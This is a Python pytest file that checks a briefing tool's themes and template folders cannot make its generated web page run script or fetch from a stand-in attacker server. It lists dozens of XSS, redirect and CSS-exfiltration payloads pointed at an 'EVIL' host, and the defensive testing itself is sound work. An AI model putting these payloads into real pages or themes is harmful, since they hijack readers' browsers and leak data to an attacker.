"""A theme or `--templates` folder cannot make the web page run script or reach the network.

Each payload goes into a theme partial or a theme stylesheet; the page `briefing build --html`
writes is opened in a real headless Chromium (Debian's, driven by Playwright) from a loopback
server, beside a second loopback server standing for the attacker. Script would mark the page;
every request, including a navigation, would reach that server or Playwright's router. None may.
The remote addresses are also gone from the page's stylesheets; the print either refuses what it
meets (and writes nothing) or prints a PDF without JavaScript, and never reaches the attacker.
"""

from __future__ import annotations

import re

import pytest
from helpers import ROOT, minimal_brief, write_yaml
from helpers.browser import chromium, missing, open_page, served

from briefing import build, load, load_theme, render_html
from briefing.errors import BriefError
from briefing.printing.standalone import standalone_html
from briefing.render.html import web_page

pytestmark = [pytest.mark.pdf, pytest.mark.skipif(missing() is not None, reason=missing() or "")]

RAN = "document.documentElement.dataset.ran='yes'"

#: Markup a theme's partial may hold. EVIL stands for the attacker's address (http://127.0.0.1:port).
PARTIALS = {
    "inline script": f"<script>{RAN}</script>",
    "script with src": '<script src="EVIL/x.js"></script>',
    "script from a data: URI": f'<script src="data:text/javascript,{RAN}"></script>',
    "module script": f'<script type="module">{RAN}</script><script type=module src=EVIL/m.js></script>',
    "script in SVG": f"<svg><script>{RAN}</script></svg>",
    "script in SVG by href": '<svg><script href="EVIL/svg.js"></script></svg>',
    "event handler on SVG": f'<svg onload="{RAN}"><rect width="1" height="1"/></svg>',
    "event handler on an image": f'<img src="nothing.png" alt="" onerror="{RAN}">',
    "event handler on details": f'<details open ontoggle="{RAN}"><summary>s</summary></details>',
    "event handler, upper case, unquoted": '<IMG SRC=x ALT="" ONERROR=document.documentElement.dataset.ran=1>',
    "javascript: link (clicked)": f'<a id="payload" href="javascript:{RAN}">x</a>',
    "javascript: link in SVG (clicked)": f'<svg><a id="payload" href="javascript:{RAN}"><text y="10">x</text></a></svg>',
    "javascript: iframe": f'<iframe src="javascript:parent.{RAN}" title="f"></iframe>',
    "remote iframe": '<iframe src="EVIL/frame.html" title="f"></iframe>',
    "srcdoc iframe": (f'<iframe title="f" srcdoc="&lt;script&gt;parent.{RAN}&lt;/script&gt;'
                      '&lt;img src=EVIL/srcdoc.png&gt;"></iframe>'),
    "data: iframe": '<iframe title="f" src="data:text/html,&lt;img src=EVIL/dataframe.png&gt;"></iframe>',
    "object": '<object data="EVIL/object.swf" type="application/x-shockwave-flash"></object>',
    "object of HTML": f'<object data="data:text/html,&lt;script&gt;parent.{RAN}&lt;/script&gt;"></object>',
    "embed": '<embed src="EVIL/embed.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=EVIL/refresh">',
    "meta refresh, upper case, unquoted": "<META HTTP-EQUIV=Refresh CONTENT='0; URL=EVIL/refresh2'>",
    "meta refresh to javascript:": f'<meta http-equiv="refresh" content="0;url=javascript:{RAN}">',
    "meta refresh in SVG": '<svg><meta http-equiv="refresh" content="0;url=EVIL/svgrefresh"/></svg>',
    "base href": '<base href="EVIL/"><img src="based.png" alt="">',
    "a looser policy": ('<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'
                        f"<script>{RAN}</script>"),
    "remote images": ("<img src='EVIL/single.png' alt=''><img src=EVIL/bare.png alt=''>"
                      '<img srcset="EVIL/set.png 1x" alt=""><picture><source srcset="EVIL/source.png">'
                      '<img alt="" src="data:,"></picture><input type="image" src="EVIL/input.png" alt="i">'),
    "media": '<video poster="EVIL/poster.png" src="EVIL/v.mp4"></video><audio src="EVIL/a.mp3" autoplay></audio>',
    "SVG image and use": ('<svg><image href="EVIL/svgimage.png" width="5" height="5"/>'
                          '<use href="EVIL/sprite.svg#a"/></svg>'),
    "loading links": ('<link rel="stylesheet" href="EVIL/c.css"><LINK REL=preload AS=image HREF=EVIL/pre.png>'
                      '<link rel="prefetch" href="EVIL/pf"><link rel="icon" href="EVIL/i.ico">'
                      '<link rel="modulepreload" href="EVIL/mp.js">'),
    "style element and attribute": ('<style>@import "EVIL/in-partial.css"; body { background: url(EVIL/st.png) }'
                                    '</style><div style="background-image: url(EVIL/attr.png)">x</div>'),
    "form (submitted)": '<form action="EVIL/form" method="get"><button id="payload">go</button></form>',
    "declarative shadow DOM": (f'<div><template shadowrootmode="open"><script>{RAN}</script>'
                               '<img src="EVIL/shadow.png" alt=""></template></div>'),
}

#: Stylesheets a theme may hold (named in its theme.yaml), and each applied to what the page shows.
STYLESHEETS = {
    "screen-only @import": '@import url("EVIL/a.css") screen;\n@import "EVIL/b.css" screen and (min-width: 1px);\n',
    "@import with layer and supports": '@import url(EVIL/l.css) layer(x) supports(display: grid) screen;\n',
    "escaped @import": "@\\69mport url(EVIL/esc-import.css);\n",
    "protocol-relative @import": "@import url(//HOST/pr.css);\n@import '//HOST/pr2.css';\n",
    "screen-only @font-face": ("@media screen { @font-face { font-family: Odd; src: url(EVIL/odd.woff2) format('woff2'); } }\n"
                               "@font-face { font-family: Odd2; src: local(Nope), url('EVIL/odd2.woff'); }\n"
                               "body, h1 { font-family: Odd, Odd2 !important; }\n"),
    "@media screen": "@media screen { body { background: url(EVIL/media.png) !important; } }\n",
    "@supports": "@supports (display: grid) { body { background-image: url(EVIL/supports.png) !important; } }\n",
    "@layer": "@layer base { body { background-image: url('EVIL/layer.png') !important; } }\n",
    "@container": ("main { container-type: inline-size; }\n"
                   "@container (min-width: 1px) { p { background-image: url(EVIL/container.png) !important; } }\n"),
    "@font-feature-values": ("@font-feature-values Odd { @styleset { nice: 1; } }\n"
                             "@font-feature-values Odd { font-display: url(EVIL/ffv.png); }\n"),
    "@property": ('@property --pic { syntax: "<image>"; inherits: true; initial-value: url(EVIL/property.png); }\n'
                  "body { background-image: var(--pic) !important; }\n"),
    "image-set()": ('h1 { background-image: image-set("EVIL/set.png" 1x, url(EVIL/set2.png) 2x) !important; }\n'
                    "h2 { background-image: -webkit-image-set(url(EVIL/wk.png) 1x) !important; }\n"),
    "escapes in url": ("h1 { background-image: u\\72l(EVIL/esc.png) !important; }\n"
                       "h2 { background-image: \\75 \\72 \\6c (EVIL/esc2.png) !important; }\n"
                       "p { background-image: url(EVIL/esc\\33.png) !important; }\n"),
    "protocol-relative url": "body { background: url(//HOST/pr.png) !important; } p { cursor: url('//HOST/c.cur'), auto; }\n",
    "other properties": ("p { list-style-image: url(EVIL/list.png); border-image: url(EVIL/border.png) 30; "
                         "mask-image: url(EVIL/mask.png); filter: url(EVIL/f.svg#f); }\n"
                         "h1::before { content: url(EVIL/content.png); }\n"),
    "custom property": ("body { --bg: url(EVIL/var.png); --u: 'EVIL/var2.png'; background-image: var(--bg) !important; }\n"
                        "h1 { background-image: image-set(var(--u) 1x) !important; }\n"),
    "@page and @counter-style": ("@page { background: url(EVIL/page.png); }\n"
                                 "@counter-style pics { system: cyclic; symbols: url(EVIL/sym.png); }\n"
                                 "ol { list-style: pics; }\n"),
    "@namespace, @scope, @starting-style": ("@namespace svg url(EVIL/ns);\n"
                                            "@scope (main) { p { background: url(EVIL/scope.png) !important; } }\n"
                                            "@starting-style { h1 { background: url(EVIL/start.png); } }\n"),
}


@pytest.fixture(scope="module")
def browser():
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def attacker(tmp_path_factory):
    """The attacker's server on loopback: its address and every path asked of it."""
    with served(tmp_path_factory.mktemp("attacker")) as (address, hits):
        yield address, hits


def theme_with(folder, *, partial: str = "", stylesheet: str = ""):
    """A theme folder whose masthead partial ends with `partial` and whose stylesheets end with `stylesheet`."""
    (folder / "partials").mkdir(parents=True)
    masthead = (ROOT / "templates" / "default" / "partials" / "masthead.html.j2").read_text(encoding="utf-8")
    (folder / "partials" / "masthead.html.j2").write_text(masthead + "{% raw %}" + partial + "{% endraw %}",
                                                          encoding="utf-8")
    (folder / "theme.yaml").write_text("stylesheets: [brief.css, odd.css]\n", encoding="utf-8")
    (folder / "odd.css").write_text(stylesheet, encoding="utf-8")
    return folder


def opened(browser, page_folder, name, attacker_address):
    """Open the page, click the payload if there is one, wait a moment for a refresh; what the page did."""
    with served(page_folder) as (base, _):
        url = f"{base}/{name}"
        context, page, others = open_page(browser, url)
        try:
            if page.query_selector("#payload"):
                page.click("#payload", no_wait_after=True)
            page.wait_for_timeout(1200)  # a refresh after 0 s, a click's navigation: given time to happen
            ran = page.evaluate("document.documentElement.dataset.ran || null")
            where = page.url
        finally:
            context.close()
    return ran, where, url, others


def check_page(browser, tmp_path, attacker, theme, templates=None):
    """Build the brief with `--html`; the page must run nothing and fetch nothing. A print that meets a
    remote address the payload put in its way refuses it and writes nothing: the page is then made
    alone, as the build would have made it."""
    address, hits = attacker
    before = len(hits)
    (tmp_path / "brief").mkdir()
    content = write_yaml(tmp_path / "brief" / "brief.yaml", minimal_brief())
    site = tmp_path / "site"
    try:
        result = build(content, site / "brief.pdf", theme=theme, templates=templates, html=True, limits=None)
    except BriefError as error:
        assert ": refused: " in str(error), error  # the print fetched nothing either
        assert not site.exists()
        chosen = load_theme(theme, templates=templates)
        brief = load(content)
        html = standalone_html(render_html(brief, chosen, web_page(brief, "brief.pdf")), chosen,
                               allowed_folders=(content.parent,), base_folder=content.parent)
        site.mkdir()
        (site / "brief.html").write_text(html, encoding="utf-8")
    else:
        html = result.html.read_text(encoding="utf-8")
        assert b"/JavaScript" not in result.pdf.read_bytes() and b"/JS " not in result.pdf.read_bytes()
    assert hits[before:] == []
    styles = "".join(part.split("</style>")[0] for part in html.split("<style")[1:])
    host = address.removeprefix("http://")
    assert host not in styles, re.findall(rf".{{0,60}}{re.escape(host)}.{{0,30}}", styles)
    ran, where, url, others = opened(browser, site, "brief.html", address)
    assert ran is None  # no script ran
    assert where == url  # nothing navigated the page away
    assert others == []  # nothing was asked for, not even to be refused by the router
    assert hits[before:] == []  # and nothing reached the attacker
    return html


@pytest.mark.parametrize("name", PARTIALS)
def test_markup_in_a_theme_partial_runs_no_script_and_fetches_nothing(browser, tmp_path, attacker, name):
    address = attacker[0]
    theme = theme_with(tmp_path / "theme", partial=PARTIALS[name].replace("EVIL", address))
    check_page(browser, tmp_path, attacker, theme)


@pytest.mark.parametrize("name", STYLESHEETS)
def test_remote_addresses_in_a_theme_stylesheet_are_removed_and_never_fetched(browser, tmp_path, attacker, name):
    address = attacker[0]
    css = STYLESHEETS[name].replace("EVIL", address).replace("HOST", address.removeprefix("http://"))
    theme = theme_with(tmp_path / "theme", stylesheet=css)
    check_page(browser, tmp_path, attacker, theme)


@pytest.mark.parametrize("name", ["inline script", "meta refresh", "base href", "loading links"])
def test_the_same_through_a_templates_folder(browser, tmp_path, attacker, name):
    address = attacker[0]
    overrides = theme_with(tmp_path / "overrides", partial=PARTIALS[name].replace("EVIL", address),
                           stylesheet=STYLESHEETS["@supports"].replace("EVIL", address))
    (overrides / "theme.yaml").unlink()  # a templates folder holds files, not settings: the screen's web.css here
    (overrides / "web.css").write_text((ROOT / "templates" / "default" / "web.css").read_text(encoding="utf-8")
                                       + (overrides / "odd.css").read_text(encoding="utf-8"), encoding="utf-8")
    check_page(browser, tmp_path, attacker, "default", templates=overrides)
